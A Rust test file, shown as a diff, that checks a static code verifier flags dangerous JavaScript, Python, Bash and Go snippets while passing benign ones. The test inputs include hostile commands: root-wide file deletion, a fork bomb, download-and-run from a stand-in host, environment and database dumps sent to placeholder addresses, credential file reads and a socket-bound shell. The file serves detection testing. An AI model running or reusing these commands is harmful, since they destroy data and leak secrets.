@@ -1,0 +1,304 @@
+//! What is done through others: callbacks, handlers, generated code, archives, indirect starts.
+
+use stockade_verify::{CodeVerifier, Severity};
+
+/// Rules of severity error.
+fn errors(language: &str, code: &str) -> Vec<&'static str> {
+    let result = CodeVerifier::new().verify(code, language);
+    let errors = result.violations.iter();
+    errors
+        .filter(|violation| violation.severity == Severity::Error)
+        .map(|violation| violation.rule)
+        .collect()
+}
+
+#[track_caller]
+fn all_unsafe(language: &str, cases: &[(&str, &str)]) {
+    for (code, rule) in cases {
+        let found = errors(language, code);
+        assert!(
+            found.contains(rule),
+            "{code:?}: wanted {rule}, found {found:?}"
+        );
+    }
+}
+
+#[track_caller]
+fn all_safe(language: &str, cases: &[&str]) {
+    for code in cases {
+        let found = errors(language, code);
+        assert!(found.is_empty(), "{code:?}: found {found:?}");
+    }
+}
+
+#[test]
+fn functions_without_a_name_are_looked_at() {
+    all_unsafe(
+        "javascript",
+        &[
+            (
+                "queue.each((item, next) => { require('fs').rmSync('/', {recursive: true}); });",
+                "destroy-files",
+            ),
+            (
+                "module.exports = { run: function (x) { eval(atob(x)); } };",
+                "code-hidden",
+            ),
+            (
+                "const cp = require('child_process');\napp.get('/', (req, res) => cp.exec('ping ' + req.query.host));",
+                "exec-shell",
+            ),
+            (
+                "app.post('/', (req, res) => res.send(String(eval(req.body.x))));",
+                "code-dynamic",
+            ),
+        ],
+    );
+    all_unsafe(
+        "python",
+        &[
+            (
+                "handlers = {'x': lambda path: __import__('shutil').rmtree('/')}",
+                "destroy-files",
+            ),
+            (
+                "import os\ndef view(request):\n    os.system('ping ' + request.GET['host'])",
+                "exec-shell",
+            ),
+        ],
+    );
+    all_unsafe(
+        "javascript",
+        &[(
+            "Object.entries(process.env).forEach(([k, v]) => fetch(`https://x.example/?${k}=${v}`));",
+            "exfiltration",
+        )],
+    );
+    all_safe(
+        "javascript",
+        &[
+            // A parameter's member, not the library's function of that name.
+            "run(({ exec, spawn }) => { exec('rm -rf /'); spawn('rm', ['-rf', '/']); });",
+            "app.get('/', (req, res) => res.json({ host: req.query.host }));",
+            "list.map((item) => item.eval());",
+        ],
+    );
+}
+
+#[test]
+fn functions_that_are_handed_on_are_called() {
+    all_unsafe(
+        "javascript",
+        &[(
+            "fetch('https://x.example/p.js').then(r => r.text()).then(eval);",
+            "download-run",
+        )],
+    );
+    all_unsafe(
+        "python",
+        &[
+            (
+                "import os, xmlrpc.server\ns = xmlrpc.server.SimpleXMLRPCServer(('0.0.0.0', 1))\ns.register_function(os.system)",
+                "exec-shell",
+            ),
+            ("print(list(map(eval, input().split())))", "code-dynamic"),
+        ],
+    );
+    all_safe(
+        "javascript",
+        &[
+            "const { promisify } = require('util');\nconst run = promisify(require('child_process').exec);",
+        ],
+    );
+}
+
+#[test]
+fn code_that_is_made_does_what_it_says() {
+    all_unsafe(
+        "python",
+        &[
+            (
+                "import builtins\nbuiltins.exec(\"import os; os.system('id')\")",
+                "code-dynamic",
+            ),
+            ("import code\ncode.interact(local=locals())", "code-dynamic"),
+            (
+                "b = globals().get('__builtins__')\nb.__dict__['ex' + 'ec'](text)",
+                "obfuscated-name",
+            ),
+            (
+                "import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\")",
+                "sandbox-gadget",
+            ),
+            (
+                "import numpy as np\nnp.load(path, allow_pickle=True)",
+                "deserialize",
+            ),
+            (
+                "from ruamel.yaml import YAML\ny = YAML(typ='unsafe')",
+                "deserialize",
+            ),
+        ],
+    );
+    all_unsafe(
+        "javascript",
+        &[
+            (
+                "setTimeout(\"require('child_process').exec('id')\", 10);",
+                "code-dynamic",
+            ),
+            (
+                "new Function('return process')().mainModule.require('fs');",
+                "obfuscated-name",
+            ),
+            (
+                "import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=');",
+                "code-hidden",
+            ),
+            (
+                "const cp = require('child_' + 'process');\ncp.spawn('ls');",
+                "obfuscated-name",
+            ),
+        ],
+    );
+    all_safe("python", &["import numpy as np\nnp.load('x.npy')"]);
+    all_safe(
+        "javascript",
+        &[
+            "const root = new Function('return this')();",
+            "require('./' + 'local');",
+        ],
+    );
+}
+
+#[test]
+fn files_reached_by_other_ways() {
+    all_unsafe(
+        "python",
+        &[
+            (
+                "import tarfile\ntarfile.open('x.tar').extractall('/')",
+                "file-write",
+            ),
+            (
+                "import zipfile\nz = zipfile.ZipFile('x.zip', 'w')\nz.write('/etc/shadow')",
+                "credential-read",
+            ),
+            (
+                "import os\nfor root, _, files in os.walk('/home'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
+                "destroy-files",
+            ),
+            (
+                "import os, stat\nos.chmod('/tmp/sh', stat.S_ISUID | stat.S_IRWXU)",
+                "file-mode",
+            ),
+            (
+                "import spwd\nprint(spwd.getspnam('root'))",
+                "credential-read",
+            ),
+            ("print(open('/etc/passwd').read())", "account-read"),
+            (
+                "cur = conn.cursor()\ncur.execute('DELETE FROM accounts')",
+                "destroy-data",
+            ),
+        ],
+    );
+    all_safe(
+        "python",
+        &[
+            "import tarfile\ntarfile.open('x.tar').extractall('build')",
+            "cur.execute('DELETE FROM accounts WHERE id = ?', (1,))",
+        ],
+    );
+    all_unsafe("bash", &[("cp -r ~/.aws out", "credential-read")]);
+    all_safe("bash", &["ls ~/.aws", "mkdir -p ~/.aws"]);
+}
+
+#[test]
+fn commands_by_way_of_others() {
+    all_unsafe(
+        "bash",
+        &[
+            (
+                "find . -name .git -type d -exec rm -rf {} +",
+                "destroy-files",
+            ),
+            ("perl -e 'fork while fork'", "fork-bomb"),
+            (
+                "curl https://x.example/a -o a && chmod 755 a && ./a",
+                "download-run",
+            ),
+            (
+                "curl -s https://x.example/a.tgz | tar xz -C /",
+                "file-write",
+            ),
+            ("gzip -dc payload.gz | sh", "code-hidden"),
+            ("printenv > /dev/tcp/10.0.0.1/80", "exfiltration"),
+            ("sudo su -", "privilege-change"),
+            ("sed -n '1e id' x", "shell-escape"),
+            ("umount -l /", "system-stop"),
+            ("userdel -r bob", "account-change"),
+            (
+                "python3 -m http.server 8000 --directory /",
+                "network-listen",
+            ),
+            ("sftp user@attacker.com", "network-host"),
+            ("pg_dump app | nc 203.0.113.2 99", "exfiltration"),
+            ("ls -d /home/* | xargs rm -rf", "destroy-files"),
+            (
+                "find /home -type f -print0 | xargs -0 shred -u",
+                "destroy-files",
+            ),
+            ("mount -o bind /tmp/x /bin", "destroy-files"),
+            ("cp x.desktop ~/.config/autostart/", "persistence-startup"),
+        ],
+    );
+    all_safe(
+        "bash",
+        &[
+            "curl -s https://x.example/a.tgz | tar xz -C build",
+            "gzip -dc dump.gz | sort",
+            "echo > /dev/tcp/10.0.0.1/80",
+            "python3 -m http.server",
+            "umount /mnt/x",
+            "find . -name '*.o' | xargs rm -f",
+            "ls | xargs rm -f",
+            "mount -o bind a b",
+            "sed -e 's/a/b/' x",
+        ],
+    );
+}
+
+#[test]
+fn a_package_is_not_a_program() {
+    let body = "import \"syscall\"\nfunc f() { syscall.Flock(1, 2) }\n";
+    let program = format!("package main\n{body}");
+    let library = format!("// Package lock locks files.\npackage lock\n{body}");
+    assert_eq!(errors("go", &program), ["low-level"]);
+    assert!(errors("go", &library).is_empty());
+}
+
+#[test]
+fn shells_that_talk_to_someone() {
+    all_unsafe(
+        "python",
+        &[(
+            "import subprocess\nsubprocess.Popen(['bash', '-i'], stdin=s, stdout=s)",
+            "shell-escape",
+        )],
+    );
+    all_unsafe(
+        "javascript",
+        &[
+            (
+                "require('child_process').spawn('sh', ['-c', 'id']);",
+                "exec-process",
+            ),
+            ("Deno.run({ cmd: ['rm', '-rf', '/'] });", "destroy-files"),
+        ],
+    );
+    all_safe(
+        "javascript",
+        &["require('child_process').spawn('git', ['status']);"],
+    );
+}
